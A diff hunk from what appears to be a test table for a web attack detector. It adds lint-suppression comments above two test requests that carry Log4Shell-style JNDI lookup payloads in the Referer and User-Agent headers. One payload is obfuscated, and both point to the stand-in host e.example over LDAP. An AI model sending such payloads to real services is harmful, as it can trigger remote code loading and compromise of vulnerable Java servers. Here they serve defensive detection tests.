@@ -164,7 +164,9 @@ const ATTACKS: readonly (readonly [rule: string, what: string, traffic: TrafficM
     'certain-payload-owned',
     'look-ups in headers',
     () => [
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send.
       ['GET /public', { referer: '${jndi:ldap://e.example/a}' }],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the same.
       ['GET /public', { 'user-agent': '${${lower:j}ndi:ldap://e.example/a}' }],
     ],
   ],
